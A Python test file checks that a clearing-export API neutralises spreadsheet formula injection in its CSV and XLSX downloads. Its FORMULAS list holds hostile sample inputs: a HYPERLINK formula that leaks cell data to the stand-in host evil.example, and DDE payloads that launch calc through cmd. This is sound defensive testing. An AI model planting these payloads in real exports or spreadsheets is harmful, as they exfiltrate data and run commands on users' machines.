"""Spreadsheet-safe clearing exports (issue 11, item 3): the one rule of api/core/spreadsheet.py,
the CSV and XLSX writers that apply it, and the clearing downloads of `/v1/clearing` with
hospitals whose names are formulas, on both databases. The finance view's download and
`onestop clearing` are checked alike in tests/api/web/test_finance_web.py and
tests/api/cli/test_clearing_exports.py."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from api.core.config import Settings
from api.core.spreadsheet import Cell, csv_text, neutralised, xlsx_append
from tests.api.services.spreadsheet_checks import (
    assert_csv_neutralised,
    assert_xlsx_neutralised,
    clearing_document,
    settle_at_hostile_hospitals,
)
from tests.support.world import World

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "-A1",
    "-",
    "+12.05",
    "-12.05e3",
    " =1+1",
    "\u3000=1+1",
]
"""Text a spreadsheet would read as a formula (or might, once it trims leading spaces)."""

LEFT_AS_THEY_ARE: list[Cell] = [
    "12.05",
    "-12.05",
    "-0.01",
    "0",
    "-7",
    "吉林大学第一医院",
    "H001",
    "a=b",
    "",
    None,
    7,
    -7,
    Decimal("-12.05"),
]
"""Plain numbers (as numbers or as plain number text) and text that starts no formula."""


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_would_start_a_formula_gets_a_leading_quote(text: str) -> None:
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("value", LEFT_AS_THEY_ARE)
def test_numbers_plain_number_text_and_harmless_text_are_left_as_they_are(value: Cell) -> None:
    assert neutralised(value) == value


def test_the_csv_writer_neutralises_every_cell_and_keeps_the_quoting_correct() -> None:
    rows: list[list[Cell]] = [[text, "-12.05", 3, 'say "hi", twice'] for text in FORMULAS]
    read = list(csv.reader(io.StringIO(csv_text(rows), newline="")))
    assert read == [["'" + text, "-12.05", "3", 'say "hi", twice'] for text in FORMULAS]


def test_the_xlsx_writer_stores_text_as_strings_never_formulas_and_numbers_as_numbers() -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for text in FORMULAS:
        xlsx_append(sheet, [text, Decimal("-12.05"), -3, "a\x01b"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    loaded = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert loaded is not None
    for text, row in zip(FORMULAS, loaded.iter_rows(), strict=True):
        name, amount, count, control = row
        # XML reads a carriage return as a line feed: the cell is still not a formula.
        assert (name.data_type, name.value) == ("s", "'" + text.replace("\r", "\n"))
        assert (amount.data_type, amount.value) == ("n", -12.05)
        assert (count.data_type, count.value) == ("n", -3)
        assert (control.data_type, control.value) == ("s", "a\ufffdb")


def test_the_clearing_route_neutralises_hostile_hospital_names_in_csv_and_xlsx(
    world: World, settings: Settings
) -> None:
    month = settle_at_hostile_hospitals(world, settings)
    document = clearing_document(world, month)
    headers = world.auth(world.keys.finance)

    response = world.client.get(
        "/v1/clearing", params={"month": month, "format": "csv"}, headers=headers
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert_csv_neutralised(response.text, document, world)

    response = world.client.get(
        "/v1/clearing", params={"month": month, "format": "xlsx"}, headers=headers
    )
    assert response.status_code == 200, response.text
    assert_xlsx_neutralised(response.content, document, world)
